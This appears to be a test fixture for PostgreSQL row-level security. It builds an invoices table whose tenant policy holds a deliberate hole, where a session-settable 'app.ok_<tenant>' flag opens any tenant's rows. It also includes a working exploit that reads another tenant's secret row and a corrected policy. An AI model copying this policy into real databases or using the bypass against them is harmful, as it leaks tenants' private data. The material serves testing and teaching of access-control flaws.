-- What: A setting whose name is made of the row's tenant opens its rows: a cache of what was allowed before.
-- Class: policy_escape_setting
-- Object: public.invoices
-- Exploit: SET app.ok_22, which is a setting like any other.
-- Column: org_id
-- Setting: app.org
-- A: 21
-- B: 22
-- @schema
create table invoices (id bigint generated always as identity primary key, org_id int not null, total int, body text not null);
alter table invoices enable row level security;
alter table invoices force row level security;
create policy tenant on invoices using (org_id = nullif(current_setting('app.org', true), '')::int or current_setting('app.ok_' || org_id, true) = 't');
grant select, insert, update, delete on invoices to app_user;
-- @rows
insert into invoices (org_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
alter policy tenant on invoices using (org_id = nullif(current_setting('app.org', true), '')::int);
-- @control
select from invoices where body = 'A-row';
-- @exploit
set app.ok_22 = 't';
select body from invoices where body like '%B-secret%';
